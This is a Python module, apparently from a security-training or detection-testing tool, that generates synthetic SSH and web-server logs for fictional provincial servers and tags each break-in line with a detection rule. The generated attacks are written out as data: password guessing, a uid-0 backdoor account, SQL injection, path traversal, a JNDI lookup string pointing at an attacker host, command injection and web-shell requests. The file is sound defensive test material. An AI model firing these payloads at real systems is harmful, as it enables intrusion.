"""Logs of the province's Linux servers: logins to one, web requests to another, and who broke in."""

from __future__ import annotations

from datetime import datetime, timedelta
from random import Random

from vonggac.jobs.scenario.lines import LOCAL, Line, in_order, iso_local, working_time
from vonggac.jobs.scenario.province import ATTACKER, OFFICE

_SSH_HOST = "dichvucong-01"
_ADMINS = ("an.bui", "ha.do", "minh.ho")
_GUESSES = ("admin", "oracle", "test", "postgres", "ubuntu", "pi", "git", "ftpuser", "nagios", "support")


def _log(time: datetime, program: str, message: str, rules: tuple[str, ...] = ()) -> Line:
    return Line(time, f"{iso_local(time)} {_SSH_HOST} {program}: {message}", rules)


def _session(random: Random, time: datetime, user: str, address: str, method: str) -> list[Line]:
    process = f"sshd[{random.randint(1000, 60000)}]"
    port = random.randint(32768, 60999)
    key = f": ED25519 SHA256:{random.getrandbits(250):042x}" if method == "publickey" else ""
    return [
        _log(time, process, f"Accepted {method} for {user} from {address} port {port} ssh2{key}"),
        _log(time, process, f"pam_unix(sshd:session): session opened for user {user}(uid=1001) by (uid=0)"),
        _log(time + timedelta(minutes=random.randint(1, 50)), process, f"pam_unix(sshd:session): session closed for user {user}"),
    ]  # fmt: skip


def _sudo(time: datetime, user: str, command: str) -> Line:
    return _log(time, "sudo", f"   {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND={command}")


def auth_log(random: Random, end: datetime, n_days: int = 5) -> list[Line]:
    """Administrators' logins and cron; one night somebody guesses passwords, and gets in as ``saoluu``."""
    lines: list[Line] = []
    for _ in range(n_days * 20):
        time, user = working_time(random, end, n_days), random.choice(_ADMINS)
        lines += _session(random, time, user, OFFICE.inner(random.randint(11, 18)), "publickey")
        lines.append(
            _sudo(
                time + timedelta(seconds=30),
                user,
                random.choice(("/usr/bin/systemctl status nginx", "/usr/bin/apt update")),
            )
        )
    for hour in range(n_days * 24):
        time = end - timedelta(hours=hour, minutes=43)
        lines.append(
            _log(
                time,
                f"CRON[{random.randint(1000, 60000)}]",
                "(root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)",
            )
        )
    mistyped = end - timedelta(days=2, hours=9)
    lines.append(
        _log(
            mistyped, "sshd[2210]", f"Failed password for invalid user an.buii from {OFFICE.inner(12)} port 40112 ssh2"
        )
    )
    return in_order([*lines, *_guessing(random, end - timedelta(days=1, hours=19))])


def _guessing(random: Random, start: datetime) -> list[Line]:
    lines = []
    rule = ("ssh_brute_force",)
    for number in range(120):
        time = start + timedelta(seconds=3 * number)
        process, port = f"sshd[{9000 + number}]", random.randint(32768, 60999)
        if number % 6 == 5:
            lines.append(
                _log(
                    time,
                    process,
                    f"error: maximum authentication attempts exceeded for root from {ATTACKER} port {port} ssh2 [preauth]",
                    rule,
                )
            )
        elif number % 2:
            lines.append(_log(time, process, f"Failed password for root from {ATTACKER} port {port} ssh2"))
        else:
            lines.append(
                _log(
                    time,
                    process,
                    f"Failed password for invalid user {random.choice(_GUESSES)} from {ATTACKER} port {port} ssh2",
                    rule,
                )
            )
    entry = start + timedelta(seconds=400)
    lines += _session(random, entry, "saoluu", ATTACKER, "password")
    lines.append(_sudo(entry + timedelta(seconds=20), "saoluu", "/bin/bash"))
    lines.append(_sudo(entry + timedelta(seconds=95), "saoluu", "/usr/sbin/useradd -o -u 0 hotro"))
    return lines


_PAGES = ("/", "/tin-tuc", "/van-ban?so=12&trang=2", "/thu-tuc/dang-ky-khai-sinh", "/css/chinh.css", "/js/chinh.js", "/anh/quoc-huy.png",
          "/tra-cuu?ma=SV{n}", "/lich-tiep-dan", "/uploads/2026/van-ban-{n}.pdf", "/tim-kiem?q=union+phu+nu+select", "/robots.txt")  # fmt: skip
_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0",
)  # fmt: skip
_MONTHS = "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split()
_SQLMAP = "sqlmap/1.9#stable (https://sqlmap.org)"
_SCAN = "web_scanner_user_agent"
_ATTACKS: tuple[tuple[str, str, int, str, tuple[str, ...]], ...] = (
    ("GET", "/van-ban?so=12%27%20OR%20%271%27=%271", 200, _SQLMAP, (_SCAN, "web_sql_injection")),
    ("GET", "/van-ban?so=-1%20UNION%20ALL%20SELECT%201,user(),3--", 500, _SQLMAP, (_SCAN, "web_sql_injection")),
    ("GET", "/van-ban?so=12&trang=1", 200, _SQLMAP, (_SCAN,)),
    ("GET", "/tai-ve?tep=../../../../etc/passwd", 200, "curl/8.5.0", ("web_path_traversal",)),
    ("GET", "/tai-ve?tep=..%2f..%2f..%2fvar%2fwww%2fcau-hinh.php", 404, "curl/8.5.0", ("web_path_traversal",)),
    ("GET", f"/?x=${{jndi:ldap://{ATTACKER}:1389/a}}", 404, "curl/8.5.0", ("web_command_injection",)),
    ("GET", "/kiem-tra?may=127.0.0.1;id;cat%20/etc/hostname", 200, "curl/8.5.0", ("web_command_injection",)),
    ("POST", "/gui-ho-so", 302, _AGENTS[0], ()),
    ("GET", "/uploads/2026/logo.php?l=ls", 200, "curl/8.5.0", ("web_shell_in_upload_folder",)),
    ("POST", "/uploads/2026/logo.php", 200, "curl/8.5.0", ("web_shell_in_upload_folder",)),
    ("POST", "/uploads/2026/logo.php", 200, "curl/8.5.0", ("web_shell_in_upload_folder",)),
    ("GET", "/uploads/2026/logo2.php", 404, "curl/8.5.0", ()),
)


def _request(
    random: Random,
    time: datetime,
    client: str,
    method: str,
    uri: str,
    status: int,
    agent: str,
    rules: tuple[str, ...] = (),
) -> Line:
    local = time.astimezone(LOCAL)
    stamp = f"{local:%d}/{_MONTHS[local.month - 1]}/{local:%Y:%H:%M:%S %z}"
    size = random.randint(200, 60_000)
    return Line(time, f'{client} - - [{stamp}] "{method} {uri} HTTP/1.1" {status} {size} "-" "{agent}"', rules)


def access_log(random: Random, end: datetime, n_requests: int) -> list[Line]:
    """Citizens read the portal of public services; one morning it is scanned, and a script is left among the uploads."""
    lines = []
    for _ in range(n_requests):
        uri = random.choice(_PAGES).format(n=random.randint(1000, 9999))
        client = f"203.0.113.{random.randint(100, 250)}"
        status = random.choices((200, 304, 404), (90, 7, 3))[0]
        lines.append(_request(random, working_time(random, end, 4), client, "GET", uri, status, random.choice(_AGENTS)))
    start = end - timedelta(days=1, hours=14)
    for number, (method, uri, status, agent, rules) in enumerate(_ATTACKS):
        lines.append(
            _request(random, start + timedelta(seconds=40 * number), ATTACKER, method, uri, status, agent, rules)
        )
    return in_order(lines)
